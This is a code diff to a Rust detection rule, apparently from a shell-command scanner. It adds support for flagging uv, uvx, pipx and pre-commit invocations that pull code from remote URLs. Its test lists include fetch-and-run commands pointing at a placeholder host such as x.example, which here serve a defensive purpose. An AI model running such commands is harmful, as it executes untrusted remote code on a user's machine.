@@ -86,6 +86,8 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             }),
         ],
         fires: &[
+            "uv run --with git+https://x.example/h.git python -c 'import h'",
+            "pre-commit try-repo https://x.example/hooks.git evil --all-files",
             "npx https://x.example/y.tgz",
             "npx -y git+https://x.example/y.git",
             "uv run https://x.example/y.py",
@@ -130,6 +132,9 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "GOPROXY=http://x.example GOFLAGS=-insecure go install y.example/a@latest",
         ],
         silent: &[
+            "uv run --with rich python -c 'import rich'",
+            "pre-commit try-repo . --all-files",
+            "pre-commit try-repo https://github.com/psf/black black",
             "npx eslint .",
             "npx lighthouse http://x.example",
             "npx wait-on http://localhost:3000",
@@ -293,6 +298,10 @@ const OTHERS: &[&str] = &[
     "wscript",
     "php",
     "wmic",
+    "uv",
+    "uvx",
+    "pipx",
+    "pre-commit",
 ];
 
 fn given_to_runner<'a>(scene: &Scene<'a>) -> Found<'a> {
@@ -336,6 +345,10 @@ fn given_to_runner<'a>(scene: &Scene<'a>) -> Found<'a> {
                     && inv.operands.iter().any(|arg| web(arg.prefix()) && arg.text().ends_with("gz"))
             }
             "msiexec" | "msiexec.exe" => inv.args.iter().any(|arg| foreign(arg.prefix())),
+            "uv" | "uvx" | "pipx" => {
+                behind(&["--with", "--with-editable", "--with-requirements", "--preinstall"])
+            }
+            "pre-commit" => first == "try-repo" && words(inv).skip(1).any(foreign),
             "pip" | "pip3" => behind(&["-r", "--requirement", "-c", "--constraint"]),
             _ => match first {
                 "build" | "buildx" => inv.operands.last().is_some_and(|arg| web(arg.prefix())),
